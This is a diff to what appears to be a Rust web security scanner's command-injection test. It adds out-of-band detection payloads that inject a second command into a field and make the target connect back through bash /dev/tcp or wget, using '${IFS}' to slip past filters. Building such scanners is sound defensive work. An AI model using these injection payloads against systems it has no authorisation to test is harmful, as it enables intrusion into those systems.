@@ -1,4 +1,4 @@
-//! Command injection: by the result of a computation that the shell makes, by delays.
+//! Command injection: by the result of a computation that the shell makes, by delays, by a connection to us.
 //!
 //! The product of two numbers between two words stands in no request, so that repeating the payload is no
 //! hit; another product must follow from other numbers. One payload is made for no quotes, single and double
@@ -7,7 +7,11 @@
 use vedette_protocol::finding::{Confidence, FindingType, ShownBy};
 
 use super::{Of, Test, nothing_afterwards};
-use crate::web::trial::{Proof, Trial, Verdict};
+use crate::web::{
+    call::{Call, Place},
+    input::Payload,
+    trial::{Proof, Subject, Trial, Verdict},
+};
 
 pub(crate) const TEST: Test = Test {
     name: "command",
@@ -41,6 +45,42 @@ fn judge(trial: &Trial<'_>) -> Verdict {
         }
     }
     Ok(None)
+}
+
+/// For commands whose output nobody sees and nobody waits for.
+pub(super) fn calls(subject: &Subject) -> Vec<Call> {
+    let call = |(shape, spell): &(&'static str, Spell)| {
+        let (spell, between) = (*spell, joint(shape));
+        let (value, left_alone) = (subject.value.clone(), subject.value.clone());
+        Call::new(
+            proof(Confidence::Certain, ShownBy::Callback, shape),
+            move |place| Payload::Value(spell(&value, &programs(place).join(between))),
+            // Words for the program that is run already.
+            move |place| Payload::Value(format!("{left_alone} {}", programs(place)[1])),
+        )
+    };
+    let shapes = SHAPES.iter().filter(|(shape, _)| *shape != "background");
+    shapes.map(call).collect()
+}
+
+/// What connects on systems with bash, and on those with busybox; they end by themselves where nobody answers.
+fn programs(place: Place) -> [String; 2] {
+    let port = format!("$(({}))", place.sum());
+    [
+        format!("timeout 3 bash -c :\\>/dev/tcp/{}/{port}", place.address()),
+        format!("wget -qO- -T3 -t1 http://{}:{port}/", place.host()),
+    ]
+    .map(|program| program.replace(' ', "${IFS}"))
+}
+
+/// What stands between two commands: nothing that is not in the shape anyway, so that no filter is met twice.
+fn joint(shape: &str) -> &'static str {
+    match shape {
+        "pipe" => "|",
+        "substitution" => ")$(",
+        "line" => "\n",
+        _ => ";",
+    }
 }
 
 fn proof(confidence: Confidence, shown_by: ShownBy, detail: &'static str) -> Proof {
